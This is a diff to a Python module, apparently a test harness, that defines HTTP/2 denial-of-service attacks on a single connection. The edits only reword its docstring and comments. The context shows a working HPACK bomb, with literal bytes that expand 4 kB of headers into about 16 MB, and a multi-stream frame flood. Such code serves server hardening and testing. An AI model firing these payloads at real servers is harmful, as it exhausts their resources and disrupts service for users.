@@ -1,4 +1,4 @@
-"""HTTP/2 on one connection: floods of frames, large and many header fields, bodies and answers that never end."""
+"""Attacks with HTTP/2 on one connection: floods of frames, large and many fields, endless bodies and answers."""
 
 import time
 
@@ -92,7 +92,7 @@ on_a_request("endless body", bytes(16_384), 1)
 @attack("HPACK bomb")
 def _(target):
     wire = target.wire()
-    # One field of 4,000 bytes into the table, then named 4,000 times: 16 MB out of 4 kB.
+    # One field of 4,000 bytes added to the table, then named 4,000 times: 16 MB out of 4 kB.
     first = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000
     wire.send(frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), first + b"\xbe" * 4_000))
     return until_closed(wire, lambda: b"")
@@ -164,8 +164,8 @@ def _(target):
         waiting.add(stream)
         parts += [frame(HEADERS, END_HEADERS, stream, wire.block(target.fields())),
                   frame(DATA, END_STREAM, stream, PAYLOAD)]
-    # All of it fits into the sockets' buffers. A thread that sends beside one that reads would be a race within OpenSSL,
-    # whose reader then takes the connection for closed.
+    # All of it fits into the sockets' buffers. Sending in a second thread would race with the reader within OpenSSL,
+    # which would then treat the connection as closed.
     wire.send(*parts, SETTINGS_ACK)
     refused, said = 0, "closed"
     while waiting:
